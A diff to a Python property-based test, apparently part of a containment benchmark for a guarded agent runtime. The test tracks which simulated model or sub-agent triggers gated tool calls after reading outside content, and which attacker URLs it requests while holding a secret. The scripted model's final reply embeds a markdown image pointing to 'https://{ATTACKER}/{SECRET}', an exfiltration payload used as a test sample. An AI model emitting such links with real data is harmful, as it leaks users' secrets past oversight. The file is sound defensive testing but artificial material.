@@ -26,10 +26,13 @@ from benchmarks.containment.world import (
     World,
     carries_secret,
 )
+from egress.ports import Fetch, HopResponse
+from egress.url import Target
 from runtime_pack import (
     AgentTaskRun,
     ApprovalRequest,
     ApprovalRequired,
+    CatalogTool,
     Confidentiality,
     Decision,
     Event,
@@ -112,29 +115,38 @@ _SUMMARIES: Final = st.sampled_from(
 class _Watched(World):
     """Notes gated effects after something from outside was read, and choices after a secret was."""
 
-    is_outside: Callable[[], bool] = lambda: False
-    is_secret: Callable[[], bool] = lambda: False
+    is_outside: Callable[[_Puppet], bool] = lambda _: False
+    asking: _Puppet | None = None
     done: list[tuple[str, str]] = attrs.field(factory=list)
     chosen: list[str] = attrs.field(factory=list)
     noted: int = 0
 
-    def answer(self, url: str) -> tuple[int, dict[str, str], str]:
-        """Which address of the attacker is asked for tells it something."""
-        if ATTACKER in url and self.is_secret():
-            self.chosen.append(url)
-        return super().answer(url)
+    def tools_of(self, model: _Puppet, *, mute: bool) -> list[CatalogTool]:
+        """The tools of one model: what they do is put down to what it had seen when it asked."""
+        self.asking = model
+        return self.tools(mute=mute)
+
+    def fetch_of(self, model: _Puppet) -> Fetch:
+        """Which address of the attacker is asked for with the secret at hand tells it something."""
+
+        async def fetch(target: Target, /) -> HopResponse:
+            if ATTACKER in target.url and model.knew:
+                self.chosen.append(target.url)
+            return await self.fetch(target)
+
+        return fetch
 
     def handlers(self) -> dict[str, Callable[[Mapping[str, Any]], str]]:
         """Those of the world, gated ones with a note."""
         plain = super().handlers()
-        return plain | {name: self._noted(name, plain[name]) for name in _GATED}
+        return plain | {name: self._noted(name, plain[name], self.asking) for name in _GATED}
 
     def _noted(
-        self, name: str, run: Callable[[Mapping[str, Any]], str]
+        self, name: str, run: Callable[[Mapping[str, Any]], str], model: _Puppet | None
     ) -> Callable[[Mapping[str, Any]], str]:
         def handler(given: Mapping[str, Any]) -> str:
             self.noted += 1
-            if self.is_outside():
+            if model is not None and self.is_outside(model):
                 self.done.append(_key(name, given))
             return run(given)
 
@@ -163,7 +175,6 @@ class _Puppet:
     asked: int = 0
     knew: bool = False
     outside: bool = False
-    answered: bool = False
 
     async def execute_turn(self, request: TurnRequest, context: ExecutionContext) -> Turn:
         """The next batch."""
@@ -175,7 +186,6 @@ class _Puppet:
         labels = (getattr(message, "label", CLEAN) for message in request.messages)
         self.outside = any(label.integrity is Integrity.EXTERNAL for label in labels)
         if not self.batches:
-            self.answered = True
             return reply(self._piece(f"![x](https://{ATTACKER}/{SECRET}) {SECRET}"))
         batch = self.batches.pop(0)
         return calls(
@@ -233,7 +243,6 @@ class HostileRuns(RuleBasedStateMachine):
         """A world, a store, and a run that asks for something at once."""
         self.world = _Watched(page="Nothing new.", links=True, private=private)
         self.world.is_outside = self._is_outside
-        self.world.is_secret = self._is_secret
         self.clock = MovableClock()
         self.store = CrashingRunStore(crash_at=(), seal=Seal(_KEY))
         self.contract = TaskContract(
@@ -262,23 +271,13 @@ class HostileRuns(RuleBasedStateMachine):
         self.known = ""
         self.drive(first)
 
-    def _is_outside(self) -> bool:
+    def _is_outside(self, model: _Puppet) -> bool:
         """Whether who asked had seen something from outside, or a call of its batch has by now.
 
         A sub-agent of the same batch does not count: what it reads, nobody knew who asked.
         """
-        asking = self._asking()
-        alone = len(self.models) == 1
-        return asking.outside or (alone and self.runs[0].label.integrity is Integrity.EXTERNAL)
-
-    def _is_secret(self) -> bool:
-        return self._asking().knew
-
-    def _asking(self) -> _Puppet:
-        """The sub-agent that has not answered yet, or the model. Calls of one batch were all asked
-        for before the first of them told anything.
-        """
-        return [self.puppet, *(model for model in self.models if not model.answered)][-1]
+        alone = model is self.puppet and len(self.models) == 1
+        return model.outside or (alone and self.runs[0].label.integrity is Integrity.EXTERNAL)
 
     def _process(self, batches: list[list[Move]]) -> ToolRuntime:
         run = create_agent_task_run(
@@ -292,7 +291,7 @@ class HostileRuns(RuleBasedStateMachine):
         self.runs = [run]
         self.puppet = _Puppet(batches, self.look_of_parent, read=self.known)
         self.models = [self.puppet]
-        tools = [*self.world.tools(mute=self.mute), self._helper(run, batches)]
+        tools = [*self.world.tools_of(self.puppet, mute=self.mute), self._helper(run, batches)]
         return self._guarded(run, self.puppet, tools)
 
     def _guarded(self, run: AgentTaskRun, model: _Puppet, tools: Sequence[Any]) -> GuardedRuntime:
@@ -301,7 +300,7 @@ class HostileRuns(RuleBasedStateMachine):
             provider=self.world,
             allowlist=ALLOW,
             emitter=_Ears(),
-            fetch=self.world.fetch,
+            fetch=self.world.fetch_of(model),
         )
         if not isinstance(runtime, GuardedRuntime):
             raise TypeError("the runtime is not guarded")
@@ -316,7 +315,7 @@ class HostileRuns(RuleBasedStateMachine):
             model = _Puppet(batches[:1], self.look)
             del batches[:1]
             self.models.append(model)
-            tools = self.world.tools(mute=self.mute)
+            tools = self.world.tools_of(model, mute=self.mute)
             catalog = (*build_web_tool_catalog(), *(tool.spec for tool in tools))
             return SubAgent(runtime=self._guarded(child, model, tools), tool_catalog=catalog)
 
